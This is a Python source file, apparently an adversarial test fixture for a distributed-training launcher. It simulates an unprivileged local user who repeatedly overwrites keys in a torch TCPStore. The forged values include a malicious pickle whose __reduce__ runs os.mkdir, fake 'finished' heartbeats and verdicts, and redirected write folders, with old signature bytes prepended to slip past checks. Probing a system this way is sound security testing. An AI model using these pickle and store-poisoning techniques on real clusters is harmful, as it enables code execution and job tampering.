"""A stranger at a launcher's store: another user of the machine, who speaks its protocol and has no secret."""

from __future__ import annotations

import itertools
import json
import os
import pickle
from datetime import timedelta
from typing import Any

from torch.distributed import TCPStore

NOBODY = 65534


class Runs:
    """Unpickled, it leaves a file."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> Any:
        return os.mkdir, (self.path,)


def forge(port: int, which: str, bait: str) -> None:
    """Overwrite values of the store, again and again, until this process is ended.

    Args:
        port: of the store.
        which: "folders": where ranks write; "verdicts": what ends them; "all".
        bait: a folder, in which ranks are to write or remove something, or leave a folder named "ran".
    """
    if os.geteuid() == 0:
        os.setgid(NOBODY)
        os.setuid(NOBODY)
    store = TCPStore("127.0.0.1", port, 1, False, timeout=timedelta(seconds=30), wait_for_workers=False)
    code = pickle.dumps(Runs(f"{bait}/ran"))
    verdict = json.dumps({"n": 10**9, "ask": 0, "verdict": json.dumps({}), "losses": 0}).encode()
    beat = json.dumps(
        {"n": 10**9, "state": "finished", "packets": 0, "stack": [0, ""], "cpu": [0, 0]}
    ).encode()
    values = {
        "folder": [bait.encode(), json.dumps(bait).encode()],
        "where": [json.dumps([node, rank, bait]).encode() for node in ("0", bait) for rank in (-1, 0)],
        "control": [verdict],
        "beat": [beat],
    }
    chosen = {"folders": ("folder", "where"), "verdicts": ("control", "beat"), "all": ("",)}[which]
    for turn in itertools.count():
        guesses = [f"mpkit/0/1/launch1/{key}" for key in ("folder0", "where0", "where1", "control", "beat1")]
        for key in {*store.list_keys(), *guesses}:
            last = key.rpartition("/")[2]
            if last.startswith(chosen):
                forged = [
                    text for name, texts in values.items() if last.startswith(name) for text in texts
                ] or [code]
                before = store.get(key) if store.check([key]) else b""
                forged = [
                    *forged,
                    *(before[:32] + text for text in forged),
                ]  # with the signature that was there
                store.set(key, forged[turn % len(forged)])
